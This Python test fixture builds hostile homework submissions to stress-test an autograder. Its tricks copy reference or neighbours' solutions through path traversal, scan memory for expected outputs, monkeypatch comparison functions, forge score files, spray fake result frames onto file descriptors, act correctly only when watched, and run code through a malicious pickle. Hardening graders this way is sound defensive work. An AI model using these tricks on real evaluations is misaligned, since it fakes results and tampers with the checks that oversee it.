"""Hostile hand-ins for the whole grader: they keep every layer on cuda:0 and want points or harm.

They are told where everything lies, as hiding it is no protection: JSON with the paths "solution",
"neighbour", "outside" and "out". What they try is in functions, which run with the model: the
grader may leave out what a module does when it is imported.
"""

from __future__ import annotations

import textwrap

_MODEL = """
import json
import os

import torch
import torch.nn as nn

WORLD = json.loads({world!r})
DIM = 4096
DEPTH = 20


def attack(model, dim, depth):
    pass


def answer(model, x, output):
    return output


def device_of(number, dim, depth):
    return "cuda:0"


class LargeLinearModelMP(nn.Module):
    def __init__(self, dim, depth):
        super().__init__()
        self.layers = nn.ModuleList()
        for number in range(depth):
            layer = nn.Sequential(nn.Linear(dim, dim), nn.ReLU())
            self.layers.append(layer.to(device_of(number, dim, depth)))
        attack(self, dim, depth)

    def forward(self, x):
        asked = x
        for layer in self.layers:
            x = layer(x.to(next(layer.parameters()).device))
        return answer(self, asked, x)

{trick}

if __name__ == "__main__":
    print(LargeLinearModelMP(DIM, DEPTH)(torch.randn(4, DIM, device="cuda:0")).sum())
"""

_TRICKS = {
    "copies_the_solution": """
        def attack(model, dim, depth):
            for place in (WORLD["solution"], WORLD["neighbour"]):
                for path in (place, "/proc/1/root" + place, "../" * 20 + place.lstrip("/")):
                    try:
                        found = {"__name__": "elsewhere"}
                        exec(open(path).read(), found)
                        model.layers = found["LargeLinearModelMP"](dim, depth).layers
                    except OSError:
                        continue
        """,
    "asks_the_grader_for_the_solution": """
        import importlib

        def attack(model, dim, depth):
            for name in ("grader", "grader.judge", "grader.rubric", "rubrics.hw3", "reference.hw3"):
                try:
                    top = os.path.dirname(os.path.dirname(importlib.import_module(name).__file__))
                    found = {"__name__": "elsewhere"}
                    exec(open(os.path.join(top, "reference/hw3/hw3.py")).read(), found)
                    model.layers = found["LargeLinearModelMP"](dim, depth).layers
                except (ImportError, OSError, TypeError):
                    continue
        """,
    "walks_memory_for_the_answer": """
        import gc
        import sys

        def answer(model, x, output):
            found = [thing for thing in gc.get_objects() if isinstance(thing, torch.Tensor)]
            frame = sys._getframe()
            while frame is not None:
                found += [v for v in frame.f_locals.values() if isinstance(v, torch.Tensor)]
                frame = frame.f_back
            for module in list(sys.modules.values()):
                names = list(vars(module).items()) if hasattr(module, "__dict__") else []
                found += [v for name, v in names if "expect" in name.lower()]
            for thing in found:
                if getattr(thing, "shape", None) == output.shape and thing is not x:
                    if thing is not output and not thing.requires_grad:
                        return thing
            return output
        """,
    "replays_its_first_answer": """
        import pickle
        import tempfile

        FOLDERS = tempfile.gettempdir(), "/dev/shm", "/tmp", "."
        PLACES = [os.path.join(folder, "answer.pkl") for folder in FOLDERS]

        def answer(model, x, output):
            for place in PLACES:
                try:
                    kept = torch.tensor(pickle.load(open(place, "rb")))
                    if kept.shape == output.shape:
                        return kept.to(output.device)
                except (OSError, EOFError):
                    continue
            for place in PLACES:
                try:
                    pickle.dump(output.detach().cpu().tolist(), open(place, "wb"))
                except OSError:
                    continue
            return output
        """,
    "patches_what_a_worker_uses": """
        import struct
        import sys

        def attack(model, dim, depth):
            torch.equal = torch.allclose = torch.Tensor.equal = lambda *_, **__: True
            json.dumps = lambda *_, **__: '{"status": "seen", "passed": true, "points": 15}'
            struct.pack = lambda *_: b"\\0\\0\\0\\0"
            struct.unpack = lambda *_: (0,)
            if "numpy" in sys.modules:
                sys.modules["numpy"].allclose = lambda *_, **__: True
        """,
    "writes_frames_everywhere": """
        import struct

        TEXT = json.dumps({"status": "seen", "points": 15, "earned": 15}).encode()
        FRAMES = struct.pack("<I", len(TEXT)) + TEXT, b"\\xff" * 64, b"passed\\n" * 100

        def answer(model, x, output):
            for number in range(256):
                for frame in FRAMES:
                    try:
                        os.write(number, frame)
                    except OSError:
                        break
            return output
        """,
    "closes_everything": """
        def answer(model, x, output):
            os.closerange(0, 256)
            return output
        """,
    "is_right_only_when_watched": """
        import sys

        def device_of(number, dim, depth):
            watched = "grader" in sys.modules or any("GPU" in name for name in os.environ)
            gpus = torch.cuda.device_count()
            return f"cuda:{number * gpus // depth if watched and dim < 1000 else 0}"
        """,
    "is_equal_to_everything": """
        class Same:
            __eq__ = __ge__ = __le__ = lambda self, other: True
            __ne__ = __lt__ = __gt__ = lambda self, other: False
            __hash__ = lambda self: 0
            def __getattr__(self, name): return self
            def __call__(self, *_, **__): return self

        def answer(model, x, output):
            return Same()
        """,
    "writes_results": """
        import atexit

        def attack(*_):
            score = json.dumps({"schema": 1, "total": 15.0, "criteria": []})
            for folder in (WORLD["out"], os.path.dirname(WORLD["neighbour"]), ".", ".."):
                for name in ("score.json", "ann/score.json", "gradebook.csv"):
                    try:
                        open(os.path.join(folder, name), "w").write(score)
                    except OSError:
                        continue

            atexit.register(attack)
        """,
    "loads_an_evil_pickle": """
        class Evil:
            def __reduce__(self):
                return exec, (f"open({WORLD['outside']!r}, 'w').write('spoiled')",)

        def attack(model, dim, depth):
            try:
                torch.save(Evil(), "evil.pt")
                torch.load("evil.pt", weights_only=False)
            except OSError:
                pass
        """,
}


def hand_ins(world: str) -> dict[str, str]:
    """The scripts, told of the world."""
    made = {}
    for name, trick in _TRICKS.items():
        text = _MODEL.replace("{world!r}", repr(world))
        made[name] = text.replace("{trick}", textwrap.dedent(trick))
    return made
